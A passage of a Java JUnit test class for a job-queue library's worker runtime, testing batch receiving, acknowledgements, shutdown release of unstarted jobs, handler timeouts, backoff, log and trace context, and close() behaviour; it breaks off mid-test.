package dev.jobq.memory;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.annotation.JsonCreator;
import com.fasterxml.jackson.annotation.JsonProperty;
import com.fasterxml.jackson.core.type.TypeReference;
import dev.jobq.Backoff;
import dev.jobq.EnqueueOptions;
import dev.jobq.JobEvent;
import dev.jobq.JobHandler;
import dev.jobq.JobInfo;
import dev.jobq.JobOptions;
import dev.jobq.JobQueue;
import dev.jobq.JobQueueException;
import dev.jobq.JobState;
import dev.jobq.NonRetryableJobException;
import dev.jobq.internal.runtime.JobQueueRuntime;
import dev.jobq.internal.worker.Worker;
import dev.jobq.spi.Capabilities;
import dev.jobq.spi.JobEnvelope;
import dev.jobq.spi.QueueProvider;
import dev.jobq.spi.ReceivedJob;
import dev.jobq.testing.ForwardingQueueProvider;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.CyclicBarrier;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;
import org.slf4j.MDC;

/** The worker runtime (DESIGN §4, §7) over the reference provider. */
class InProcessWorkerTest {

    record Work(int n) {
    }

    private final WorkerFixture fixture = new WorkerFixture();
    private final EventRecorder events = fixture.events;

    @AfterEach
    void closeAll() throws Exception {
        fixture.close();
    }

    private QueueProvider memoryProvider(Map<String, ?> settings) {
        return fixture.memoryProvider(settings);
    }

    private JobQueue queue(QueueProvider provider, int concurrency, Duration shutdownTimeout) {
        return fixture.queue(provider, concurrency, shutdownTimeout);
    }

    @Test
    @DisplayName("on a provider that receives in batches, one poll loop per batch's worth of concurrency receives at once")
    void batchReceivingProviderGetsALoopPerBatch() {
        var receiving = new AtomicInteger();
        var mostAtOnce = new AtomicInteger();
        QueueProvider batches = new ForwardingQueueProvider(memoryProvider(Map.of())) {
            @Override
            public Capabilities capabilities() {
                Capabilities real = delegate().capabilities();
                return new Capabilities(real.maxDelay(), real.maxPayloadBytes(), real.features(), 10);
            }

            @Override
            public List<ReceivedJob> receive(int max, Duration wait) {
                assertThat(max).isLessThanOrEqualTo(10);
                mostAtOnce.accumulateAndGet(receiving.incrementAndGet(), Math::max);
                try {
                    return delegate().receive(max, wait);
                } finally {
                    receiving.decrementAndGet();
                }
            }
        };
        JobQueue jobs = queue(batches, 25, Duration.ofSeconds(5));
        jobs.start();

        await().atMost(Duration.ofSeconds(10)).until(() -> receiving.get() == 3);
        assertThat(mostAtOnce).hasValue(3);
    }

    @Test
    @DisplayName("on a provider that receives in-process, a handler thread on a backlog acknowledges each job and "
            + "takes its next in one call")
    void backlogIsTakenWithEachAcknowledgement() {
        var plainAcknowledgements = new AtomicInteger();
        var fused = new CopyOnWriteArrayList<Integer>();
        QueueProvider counting = new ForwardingQueueProvider(memoryProvider(Map.of())) {
            @Override
            public void acknowledge(ReceivedJob job) {
                plainAcknowledgements.incrementAndGet();
                super.acknowledge(job);
            }

            @Override
            public List<ReceivedJob> acknowledgeAndReceive(ReceivedJob job, int max) {
                List<ReceivedJob> next = delegate().acknowledgeAndReceive(job, max);
                fused.add(next.size());
                return next;
            }
        };
        JobQueue jobs = queue(counting, 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> { });
        for (int i = 0; i < 10; i++) {
            jobs.enqueue("work", new Work(i));
        }
        jobs.start();

        List<JobEvent.Completed> done = events.awaitCount(JobEvent.Completed.class, 10);

        assertThat(done).extracting(JobEvent.Completed::attempt).containsOnly(1);
        assertThat(plainAcknowledgements).hasValue(0);
        // One thread ran them all: nine acknowledgements each brought the next job, the tenth none.
        assertThat(fused).containsExactly(1, 1, 1, 1, 1, 1, 1, 1, 1, 0);
        assertThat(jobs.stats("default").completed()).isEqualTo(10);
    }

    @Test
    @DisplayName("a job leased with an acknowledgement as the worker stops goes back to the queue unstarted before "
            + "close() returns")
    void jobTakenWithAnAcknowledgementDuringShutdownIsReleased() throws InterruptedException {
        QueueProvider provider = memoryProvider(Map.of());
        var acking = new CountDownLatch(1);
        var signals = new ShowsCloseBegun(provider) {
            @Override
            public List<ReceivedJob> acknowledgeAndReceive(ReceivedJob job, int max) {
                // The worker begins stopping while this call is on its way.
                acking.countDown();
                awaitBounded(closeBegun);
                return delegate().acknowledgeAndReceive(job, max);
            }
        };
        JobQueue jobs = queue(signals, 2, Duration.ofMillis(100));
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> { });
        String first = jobs.enqueue("work", new Work(1));
        String second = jobs.enqueue("work", new Work(2));
        jobs.start();
        assertThat(acking.await(20, TimeUnit.SECONDS)).isTrue();
        assertThat(signals.loopWaits.await(20, TimeUnit.SECONDS)).isTrue();

        var secondWhenClosed = new AtomicReference<JobState>();
        Thread closer = Thread.ofPlatform().start(() -> {
            jobs.close();
            secondWhenClosed.set(provider.getJob(second).orElseThrow().state());
        });
        assertThat(closer.join(EventRecorder.WAIT)).as("close() returned").isTrue();

        assertThat(secondWhenClosed.get()).as("the second job when close() returned").isEqualTo(JobState.WAITING);
        assertThat(provider.getJob(first).orElseThrow().state()).isEqualTo(JobState.COMPLETED);
        assertThat(events.all(JobEvent.Started.class)).extracting(JobEvent.Started::jobId).containsExactly(first);
        assertThat(provider.getJob(second).orElseThrow().attempts()).isZero();
        assertThat(provider.receive(2, Duration.ZERO)).extracting(ReceivedJob::jobId).containsExactly(second);
    }

    @Test
    @DisplayName("a job received but not started when close() begins goes back unstarted: its handler never runs, "
            + "its attempt is not counted")
    void jobReceivedButNotStartedWhenCloseBeginsIsReleasedUnstarted() throws InterruptedException {
        QueueProvider provider = memoryProvider(Map.of());
        var signals = new ShowsCloseBegun(provider);
        // Not Duration.ZERO: reading the payload is part of the attempt (heartbeats, timeout), so close() waits for it
        // up to shutdownTimeout, as for a handler; at zero it cancelled the reading as close() began, and whether the
        // job then went back released (an event, counted) or unstarted raced the reading's own return (CI at 90a729b).
        JobQueue jobs = queue(signals, 2, Duration.ofSeconds(20));
        var ran = new CopyOnWriteArrayList<String>();
        jobs.registerJobHandler("held", Held.class, (job, ctx) -> ran.add(job.id()));
        var holding = new CountDownLatch(1);
        var holder = new AtomicReference<Thread>();
        // Reading the payload is the last step before the handler: the thread holds the job, not started; read once
        // close() began, it starts no handler and goes back unstarted.
        Held.reading = () -> {
            holder.set(Thread.currentThread());
            holding.countDown();
            awaitBounded(signals.closeBegun);
        };
        try {
            String id = jobs.enqueue("held", new Held(1));
            jobs.start();
            assertThat(holding.await(20, TimeUnit.SECONDS)).isTrue();
            assertThat(signals.loopWaits.await(20, TimeUnit.SECONDS)).isTrue();

            jobs.close();
            assertThat(holder.get().join(EventRecorder.WAIT)).as("the job's thread ended").isTrue();

            assertThat(ran).as("handlers run").isEmpty();
            assertThat(events.all(JobEvent.Started.class)).isEmpty();
            // As JobEvent.WorkerStopped says: handed back without an event, and not counted as released.
            assertThat(events.all(JobEvent.Released.class)).isEmpty();
            assertThat(events.all(JobEvent.WorkerStopped.class)).extracting(JobEvent.WorkerStopped::released)
                    .containsExactly(0);
            assertThat(provider.getJob(id).orElseThrow().state()).isEqualTo(JobState.WAITING);
            assertThat(provider.getJob(id).orElseThrow().attempts()).isZero();
        } finally {
            Held.reading = () -> { };
        }
    }

    @Test
    @DisplayName("a provider that does not answer the release of a job received but not started does not hold close(); "
            + "the job goes back unstarted once it answers")
    void unansweredReleaseOfAnUnstartedJobDoesNotHoldShutdown() throws InterruptedException {
        var answer = new CountDownLatch(1);
        var releaseCalled = new CountDownLatch(1);
        QueueProvider provider = memoryProvider(Map.of());
        var signals = new ShowsCloseBegun(provider) {
            @Override
            public void release(ReceivedJob job) {
                // as SQS out of reach: the SDK tries each call for minutes
                releaseCalled.countDown();
                awaitIgnoringInterrupts(answer);
                super.release(job);
            }
        };
        JobQueue jobs = queue(signals, 2, Duration.ZERO);
        var ran = new CopyOnWriteArrayList<String>();
        jobs.registerJobHandler("held", Held.class, (job, ctx) -> ran.add(job.id()));
        var holding = new CountDownLatch(1);
        // Reading the payload is the last step before the handler: the thread holds the job, not started,
        // until close() has taken it back and asked the provider to release it.
        Held.reading = () -> {
            holding.countDown();
            awaitBounded(releaseCalled);
        };
        try {
            String id = jobs.enqueue("held", new Held(1));
            jobs.start();
            assertThat(holding.await(20, TimeUnit.SECONDS)).isTrue();
            assertThat(signals.loopWaits.await(20, TimeUnit.SECONDS)).isTrue();

            Thread closer = Thread.ofVirtual().start(jobs::close);
            try {
                assertThat(releaseCalled.await(20, TimeUnit.SECONDS)).isTrue();
                assertThat(closer.join(Duration.ofSeconds(20))).as("close() returned while the release has no answer")
                        .isTrue();
            } finally {
                answer.countDown();
            }
            await().atMost(EventRecorder.WAIT).untilAsserted(() ->
                    assertThat(provider.getJob(id).orElseThrow().state()).isEqualTo(JobState.WAITING));
            assertThat(provider.getJob(id).orElseThrow().attempts()).isZero();
            assertThat(ran).as("handlers run").isEmpty();
            assertThat(events.all(JobEvent.Started.class)).isEmpty();
        } finally {
            Held.reading = () -> { };
        }
    }

    @Test
    @DisplayName("on a provider that settles over the network, a returned handler's permit serves the next job while "
            + "its acknowledgement is on the wire; at most twice concurrency acknowledgements wait so")
    void returnedHandlersPermitServesTheNextJobDuringItsAcknowledgement() {
        var acksMayFinish = new CountDownLatch(1);
        var acking = new AtomicInteger();
        QueueProvider remote = new ForwardingQueueProvider(memoryProvider(Map.of())) {
            @Override
            public Capabilities capabilities() {
                return MaxJobsTest.receivedInBatches(delegate().capabilities());
            }

            @Override
            public void acknowledge(ReceivedJob job) {
                acking.incrementAndGet();
                awaitIgnoringInterrupts(acksMayFinish);
                delegate().acknowledge(job);
            }
        };
        int concurrency = 2;
        JobQueue jobs = queue(remote, concurrency, Duration.ofSeconds(5));
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> { });
        int total = 3 * concurrency + 2;
        for (int i = 0; i < total; i++) {
            jobs.enqueue("work", new Work(i));
        }
        jobs.start();

        // Four handlers (twice the concurrency) return and hand their permits back while they
        // acknowledge; two more run on those permits and keep them, since four wait already. The
        // last two jobs wait for a permit.
        await().atMost(EventRecorder.WAIT).until(() -> acking.get() == 3 * concurrency);
        await().during(Duration.ofMillis(300)).atMost(EventRecorder.WAIT)
                .until(() -> events.all(JobEvent.Started.class).size() == 3 * concurrency);
        assertThat(events.all(JobEvent.Completed.class)).isEmpty();
        // Six attempts have started, but only handlers count as active, never a settling thread:
        // at most the concurrency (no-op handlers need not overlap, so it may be less).
        assertThat(jobs.stats("default").peakActive()).isBetween(1L, (long) concurrency);

        acksMayFinish.countDown();
        events.awaitCount(JobEvent.Completed.class, total);
        assertThat(acking).hasValue(total);
        assertThat(jobs.stats("default").peakActive()).isBetween(1L, (long) concurrency);
    }

    @Test
    @DisplayName("a handler past its timeout is interrupted, and the attempt counts as failed")
    void timedOutHandlerIsInterruptedAndCounted() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 2, Duration.ofSeconds(5));
        var interrupted = new AtomicBoolean();
        var attempts = new AtomicInteger();
        jobs.registerJobHandler("slow", Work.class, (job, ctx) -> {
            if (attempts.incrementAndGet() == 1) {
                try {
                    new CountDownLatch(1).await();
                } catch (InterruptedException e) {
                    interrupted.set(ctx.isCancelled());
                    throw e;
                }
            }
        });
        jobs.start();
        jobs.enqueue("slow", new Work(1), EnqueueOptions.builder().timeout(Duration.ofMillis(200)).maxAttempts(2).build());

        JobEvent.Failed failed = events.awaitCount(JobEvent.Failed.class, 1).get(0);
        assertThat(failed.error()).isEqualTo("timed out after 200ms");
        assertThat(failed.attempt()).isEqualTo(1);
        JobEvent.Completed completed = events.awaitCount(JobEvent.Completed.class, 1).get(0);
        assertThat(completed.attempt()).isEqualTo(2);
        await().atMost(EventRecorder.WAIT).untilTrue(interrupted);
        assertThat(attempts).hasValue(2);
    }

    /** A payload whose binding takes {@link #BINDING}, as a slow custom deserializer's would. */
    record SlowToBind(int n) {
        static final Duration BINDING = Duration.ofSeconds(2);

        @JsonCreator
        SlowToBind(@JsonProperty("n") int n, @JsonProperty("slow") boolean slow) throws InterruptedException {
            this(n);
            if (slow) {
                assertThat(new CountDownLatch(1).await(BINDING.toMillis(), TimeUnit.MILLISECONDS)).isFalse();
            }
        }

        @JsonProperty("slow")
        boolean slow() {
            return true;
        }
    }

    @Test
    @DisplayName("an attempt's timeout counts from when its handler starts, not from the receive: time spent before "
            + "(binding the payload, within the timeout of its own) is not taken from the handler")
    void timeoutCountsFromTheHandlersStart() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        var cutShort = new AtomicBoolean();
        jobs.registerJobHandler("slow-to-bind", SlowToBind.class, (job, ctx) -> {
            // Work of half the timeout, which the binding before it took two thirds of: before, the timeout ran
            // from the receive, and the handler was interrupted 1 s after it started. (A binding longer than the
            // timeout is timed out itself: BlockingDeserializerTest.)
            try {
                assertThat(new CountDownLatch(1).await(1500, TimeUnit.MILLISECONDS)).isFalse();
            } catch (InterruptedException e) {
                cutShort.set(true);
                throw e;
            }
        });
        jobs.start();
        Duration timeout = SlowToBind.BINDING.plusSeconds(1);
        jobs.enqueue("slow-to-bind", new SlowToBind(1), EnqueueOptions.builder().timeout(timeout).maxAttempts(1).build());

        await().atMost(EventRecorder.WAIT).until(() -> !events.all(JobEvent.Completed.class).isEmpty()
                || !events.all(JobEvent.Dead.class).isEmpty());
        assertThat(events.all(JobEvent.Dead.class)).isEmpty();
        assertThat(events.all(JobEvent.Completed.class)).hasSize(1);
        assertThat(cutShort).isFalse();
    }

    @Test
    @DisplayName("a job whose timeout is longer than nanoTime counts (timeoutMs up to Long.MAX_VALUE) runs, and so do "
            + "the jobs after it")
    void timeoutBeyondNanosecondsRunsAndTheWorkerGoesOn() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        var ran = new CopyOnWriteArrayList<Integer>();
        jobs.registerJobHandler("long", Work.class, (job, ctx) -> ran.add(job.payload().n()));
        jobs.start();
        // What the worker reads from an envelope with "timeoutMs": 9223372036854775807.
        String endless = jobs.enqueue("long", new Work(1),
                EnqueueOptions.builder().timeout(Duration.ofMillis(Long.MAX_VALUE)).build());
        String plain = jobs.enqueue("long", new Work(2));

        List<JobEvent.Completed> completed = events.awaitCount(JobEvent.Completed.class, 2);
        assertThat(completed).extracting(JobEvent.Completed::jobId).containsExactlyInAnyOrder(endless, plain);
        assertThat(ran).containsExactlyInAnyOrder(1, 2);
    }

    @Test
    @DisplayName("a job type's own backoff decides its retries, for a payload class and for a generic payload type")
    void ownBackoffPerJobType() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 2, Duration.ofSeconds(5));
        jobs.registerJobHandler("single", Work.class, failsFirst(), Backoff.fixed(Duration.ofMillis(30)));
        jobs.registerJobHandler("batch", new TypeReference<List<Work>>() { }, failsFirst(),
                Backoff.fixed(Duration.ofMillis(40)));
        jobs.start();
        jobs.enqueue("single", new Work(1));
        jobs.enqueue("batch", List.of(new Work(2), new Work(3)));

        events.awaitCount(JobEvent.Completed.class, 2);
        assertThat(events.all(JobEvent.Failed.class)).extracting(JobEvent.Failed::type, JobEvent.Failed::retryIn)
                .containsExactlyInAnyOrder(tuple("single", Duration.ofMillis(30)), tuple("batch", Duration.ofMillis(40)));
    }

    private static <T> JobHandler<T> failsFirst() {
        return (job, ctx) -> {
            if (ctx.attempt() == 1) {
                throw new IllegalStateException("first attempt fails");
            }
        };
    }

    @Test
    @DisplayName("the thread of a timed-out attempt runs the next job without the interrupt meant for the first")
    void interruptOfTimedOutAttemptNeverReachesTheNextJob() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        var threads = new ArrayList<Thread>();
        var nextSawInterrupt = new AtomicBoolean(true);
        jobs.registerJobHandler("spins", Work.class, (job, ctx) -> {
            threads.add(Thread.currentThread());
            while (!ctx.isCancelled()) {
                Thread.onSpinWait();
            }
            // Returns with the interrupt flag still set, as a handler that never checks it would.
        });
        jobs.registerJobHandler("next", Work.class, (job, ctx) -> {
            threads.add(Thread.currentThread());
            nextSawInterrupt.set(Thread.currentThread().isInterrupted() || ctx.isCancelled());
        });
        jobs.enqueue("spins", new Work(1), EnqueueOptions.builder().timeout(Duration.ofMillis(100)).maxAttempts(1).build());
        jobs.enqueue("next", new Work(2));
        jobs.start();

        events.awaitCount(JobEvent.Dead.class, 1);
        events.awaitCount(JobEvent.Completed.class, 1);
        assertThat(nextSawInterrupt).isFalse();
        // With one permit and a backlog, the memory provider's jobs run one after another on one thread.
        assertThat(threads).hasSize(2);
        assertThat(threads.get(1)).isSameAs(threads.get(0));
    }

    @Test
    @DisplayName("each attempt runs with its own job id, type and attempt in the log context, also one after another on one thread")
    void eachAttemptHasItsOwnLogContext() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        var seen = new CopyOnWriteArrayList<Map<String, String>>();
        var threads = new CopyOnWriteArrayList<Thread>();
        JobHandler<Work> recording = (job, ctx) -> {
            threads.add(Thread.currentThread());
            seen.add(MDC.getCopyOfContextMap());
            if (job.payload().n() == 2 && job.attempt() == 1) {
                throw new IllegalStateException("the first attempt fails");
            }
        };
        jobs.registerJobHandler("first", Work.class, recording);
        jobs.registerJobHandler("second", Work.class, recording);
        String first = jobs.enqueue("first", new Work(1));
        String second = jobs.enqueue("second", new Work(2));
        jobs.start();

        events.awaitCount(JobEvent.Completed.class, 2);
        assertThat(seen).containsExactly(
                Map.of("jobId", first, "jobType", "first", "attempt", "1"),
                Map.of("jobId", second, "jobType", "second", "attempt", "1"),
                Map.of("jobId", second, "jobType", "second", "attempt", "2"));
        // One permit and jobs waiting: the first two ran one after the other on the same thread.
        assertThat(threads.get(1)).isSameAs(threads.get(0));
    }

    @Test
    @DisplayName("a job whose envelope has a trace id runs with it in the log context; the next job on the thread without")
    void traceIdOfTheEnvelopeIsInTheLogContext() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
        var seen = new CopyOnWriteArrayList<Map<String, String>>();
        jobs.registerJobHandler("traced", Work.class, (job, ctx) -> seen.add(MDC.getCopyOfContextMap()));
        String traceparent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
        provider.enqueue(new JobEnvelope(1, "j-1", "traced", "{\"n\":1}", JobOptions.defaults(), 0, Instant.now(), null,
                traceparent), Duration.ZERO);
        provider.enqueue(new JobEnvelope(1, "j-2", "traced", "{\"n\":2}", JobOptions.defaults(), 0, Instant.now(), null,
                null), Duration.ZERO);
        jobs.start();

        events.awaitCount(JobEvent.Completed.class, 2);
        assertThat(seen).containsExactly(
                Map.of("jobId", "j-1", "jobType", "traced", "attempt", "1", "traceId", traceparent),
                Map.of("jobId", "j-2", "jobType", "traced", "attempt", "1"));
    }

    @Test
    @DisplayName("the lines and events of an attempt ended from another thread (a timeout, a release at shutdown) "
            + "carry its job id, type, attempt and trace id in the log context, as its handler's own lines do")
    void attemptEndedFromAnotherThreadKeepsItsLogContext() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 2, Duration.ofMillis(100));
        var lines = new CapturedLog();
        lines.start();
        var attemptLog = (ch.qos.logback.classic.Logger) LoggerFactory.getLogger("dev.jobq.internal.worker.AttemptRun");
        attemptLog.addAppender(lines);
        var atEvent = new ConcurrentHashMap<String, Map<String, String>>();
        jobs.addListener(event -> {
            if (event instanceof JobEvent.Failed || event instanceof JobEvent.Dead || event instanceof JobEvent.Released) {
                // none at all: an empty map, which the map can hold
                Map<String, String> context = MDC.getCopyOfContextMap();
                atEvent.put(event.getClass().getSimpleName(), context == null ? Map.of() : context);
            }
        });
        jobs.registerJobHandler("ignores:interrupts", Work.class, (job, ctx) -> {
            while (!ctx.isCancelled()) {
                Thread.onSpinWait();
            }
        });
        jobs.registerJobHandler("waits", Work.class, (job, ctx) -> new CountDownLatch(1).await());
        String timedOut = jobs.enqueue("ignores:interrupts", new Work(1), EnqueueOptions.builder()
                .timeout(Duration.ofMillis(100)).maxAttempts(2).traceId("trace-timeout").build());
        try {
            jobs.start();
            events.awaitCount(JobEvent.Dead.class, 1);
            String released = jobs.enqueue("waits", new Work(2), EnqueueOptions.builder().traceId("trace-release").build());
            events.awaitCount(JobEvent.Started.class, 3);
            jobs.close();

            assertThat(atEvent).containsOnlyKeys("Failed", "Dead", "Released");
            assertThat(atEvent.get("Failed")).isEqualTo(Map.of("jobId", timedOut, "jobType", "ignores:interrupts",
                    "attempt", "1", "traceId", "trace-timeout"));
            assertThat(atEvent.get("Dead")).isEqualTo(Map.of("jobId", timedOut, "jobType", "ignores:interrupts",
                    "attempt", "2", "traceId", "trace-timeout"));
            assertThat(atEvent.get("Released")).isEqualTo(Map.of("jobId", released, "jobType", "waits",
                    "attempt", "1", "traceId", "trace-release"));
            assertThat(lines.list).filteredOn(line -> line.getFormattedMessage().contains("timed out"))
                    .hasSize(2).allSatisfy(line -> assertThat(line.getMDCPropertyMap())
                            .containsEntry("jobId", timedOut).containsEntry("traceId", "trace-timeout"));
            assertThat(lines.list).filteredOn(line -> line.getFormattedMessage().contains("released unfinished"))
                    .singleElement().satisfies(line -> assertThat(line.getMDCPropertyMap())
                            .containsEntry("jobId", released).containsEntry("traceId", "trace-release"));
        } finally {
            attemptLog.detachAppender(lines);
        }
    }

    @Test
    @DisplayName("a trace id given at enqueue reaches the handler as ctx.traceId() and in the MDC, and a handler "
            + "passes it on to the job it enqueues; a job without one has none")
    void traceIdGivenAtEnqueueFollowsTheWork() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 2, Duration.ofSeconds(5));
        var seen = new CopyOnWriteArrayList<String>();
        jobs.registerJobHandler("order:place", Work.class, (job, ctx) -> {
            seen.add("place " + ctx.traceId().orElse("none") + " " + MDC.get("traceId"));
            var options = EnqueueOptions.builder();
            ctx.traceId().ifPresent(options::traceId);
            jobs.enqueue("order:confirm", new Work(job.payload().n()), options.build());
        });
        jobs.registerJobHandler("order:confirm", Work.class,
                (job, ctx) -> seen.add("confirm " + ctx.traceId().orElse("none") + " " + MDC.get("traceId")));
        String traceparent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
        jobs.start();

        jobs.enqueue("order:place", new Work(1), EnqueueOptions.builder().traceId(traceparent).build());
        events.awaitCount(JobEvent.Completed.class, 2);
        jobs.enqueue("order:place", new Work(2));
        events.awaitCount(JobEvent.Completed.class, 4);

        assertThat(seen).containsExactly("place " + traceparent + " " + traceparent,
                "confirm " + traceparent + " " + traceparent, "place none null", "confirm none null");
    }

    @Test
    @DisplayName("ctx.log from a thread the handler started logs with the job's id, type, attempt and trace id, and "
            + "leaves that thread's own log context as it was")
    void contextLogFromAnotherThreadCarriesTheJobsLogContext() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
        var lines = new CapturedLog();
        lines.start();
        var jobLog = (ch.qos.logback.classic.Logger) LoggerFactory.getLogger("dev.jobq.job");
        jobLog.addAppender(lines);
        var ownContextAfter = new AtomicReference<Map<String, String>>();
        jobs.registerJobHandler("fan-out", Work.class, (job, ctx) -> {
            Thread helper = Thread.ofPlatform().start(() -> {
                MDC.put("jobId", "the helper's own");
                MDC.put("requestId", "r-7");
                ctx.log("from a helper thread");
                ownContextAfter.set(MDC.getCopyOfContextMap());
            });
            helper.join();
        });
        String traceparent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
        provider.enqueue(new JobEnvelope(1, "j-1", "fan-out", "{\"n\":1}", JobOptions.defaults(), 0, Instant.now(), null,
                traceparent), Duration.ZERO);
        try {
            jobs.start();
            events.awaitCount(JobEvent.Completed.class, 1);
        } finally {
            jobLog.detachAppender(lines);
        }

        assertThat(lines.list).singleElement().satisfies(line -> assertThat(line.getMDCPropertyMap())
                .containsEntry("jobId", "j-1").containsEntry("jobType", "fan-out").containsEntry("attempt", "1")
                .containsEntry("traceId", traceparent).containsEntry("requestId", "r-7"));
        assertThat(ownContextAfter.get()).isEqualTo(Map.of("jobId", "the helper's own", "requestId", "r-7"));
    }

    @Test
    @DisplayName("a job whose message already counts all its attempts is dead-lettered saying so, not blaming a crash")
    void messageWithNoAttemptsLeftSaysSo() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
        var ran = new AtomicInteger();
        jobs.registerJobHandler("spent", Work.class, (job, ctx) -> ran.incrementAndGet());
        provider.enqueue(new JobEnvelope(1, "j-3", "spent", "{\"n\":1}", JobOptions.defaults(), 3, Instant.now(), null,
                null), Duration.ZERO);
        jobs.start();

        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
        assertThat(dead.error()).isEqualTo("delivered for attempt 4 but maxAttempts is 3: its message says 3 "
                + "attempt(s) were made already ('attempt' in the job envelope), which leaves none");
        assertThat(ran).hasValue(0);
    }

    @Test
    @DisplayName("progress a handler reports after its attempt timed out is not announced after the attempt's Dead")
    void progressAfterTimeoutIsDiscarded() throws InterruptedException {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        var reportedLate = new CountDownLatch(1);
        jobs.registerJobHandler("slow", Work.class, (job, ctx) -> {
            ctx.progress(10);
            while (!ctx.isCancelled()) {
                Thread.onSpinWait();
            }
            // A handler that ignores the interrupt and goes on reporting.
            ctx.progress(90);
            reportedLate.countDown();
        });
        jobs.start();
        String id = jobs.enqueue("slow", new Work(1),
                EnqueueOptions.builder().timeout(Duration.ofMillis(100)).maxAttempts(1).build());

        assertThat(reportedLate.await(20, TimeUnit.SECONDS)).isTrue();
        assertThat(events.awaitCount(JobEvent.Dead.class, 1)).extracting(JobEvent.Dead::jobId).containsExactly(id);
        assertThat(events.all(JobEvent.Progress.class)).extracting(JobEvent.Progress::percent).containsExactly(10);
    }

    @Test
    @DisplayName("a timeout on the last attempt dead-letters the job")
    void timeoutOnLastAttemptIsDead() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("slow", Work.class, (job, ctx) -> new CountDownLatch(1).await());
        jobs.start();
        String id = jobs.enqueue("slow", new Work(1),
                EnqueueOptions.builder().timeout(Duration.ofMillis(100)).maxAttempts(1).build());

        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
        assertThat(dead.jobId()).isEqualTo(id);
        assertThat(dead.error()).isEqualTo("timed out after 100ms (attempt 1 of 1)");
    }

    @Test
    @DisplayName("close() called from the Dead listener of a timed-out attempt does not wait for that attempt, "
            + "whose job stays dead")
    void closeFromATimedOutAttemptsListener() throws Exception {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        var closeReturned = new CountDownLatch(1);
        var closedOn = new AtomicReference<String>();
        jobs.addListener(event -> {
            if (event instanceof JobEvent.Dead) {
                closedOn.set(Thread.currentThread().getName());
                jobs.close();
                closeReturned.countDown();
            }
        });
        jobs.registerJobHandler("slow", Work.class, (job, ctx) -> new CountDownLatch(1).await());
        jobs.start();
        String id = jobs.enqueue("slow", new Work(1),
                EnqueueOptions.builder().timeout(Duration.ofMillis(100)).maxAttempts(1).build());

        JobEvent.WorkerStopped stopped = events.awaitCount(JobEvent.WorkerStopped.class, 1).get(0);
        assertThat(closeReturned.await(20, TimeUnit.SECONDS)).as("close() returned").isTrue();
        assertThat(stopped.released()).isZero();
        assertThat(events.all(JobEvent.Dead.class)).extracting(JobEvent.Dead::jobId).containsExactly(id);
        assertThat(events.all(JobEvent.Released.class)).isEmpty();
        assertThat(closedOn.get()).isNotNull();
    }

    @Test
    @DisplayName("close() called from a handler returns at once, and the shutdown waits for that handler, whose job "
            + "completes")
    void closeFromAHandlerDoesNotWaitForItself() throws Exception {
        JobQueue jobs = queue(memoryProvider(Map.of()), 2, Duration.ofSeconds(5));
        var cancelledAfterClose = new AtomicReference<Boolean>();
        jobs.registerJobHandler("shutdown", Work.class, (job, ctx) -> {
            jobs.close();
            // Before, close() waited here for this very handler until shutdownTimeout, then cancelled it and
            // released its job, to be run (and close a worker) again.
            cancelledAfterClose.set(ctx.isCancelled() || Thread.currentThread().isInterrupted());
        });
        jobs.start();
        String id = jobs.enqueue("shutdown", new Work(1));

        JobEvent.WorkerStopped stopped = events.awaitCount(JobEvent.WorkerStopped.class, 1).get(0);
        assertThat(stopped.released()).isZero();
        assertThat(cancelledAfterClose.get()).isFalse();
        assertThat(events.all(JobEvent.Completed.class)).extracting(JobEvent.Completed::jobId).containsExactly(id);
        assertThat(events.all(JobEvent.Released.class)).isEmpty();
        // The shutdown ends in the background, and then refuses enqueues.
        await().atMost(EventRecorder.WAIT).untilAsserted(() -> assertThatThrownBy(() -> jobs.enqueue("other", null))
                .isInstanceOf(JobQueueException.class));
    }

    @Test
    @DisplayName("a second close() while the first drains returns when the shutdown ends, not at once")
    void secondCloseWaitsForTheFirst() throws Exception {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(20));
        var started = new CountDownLatch(1);
        var finish = new CountDownLatch(1);
        var handlerReturned = new AtomicBoolean();
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> {
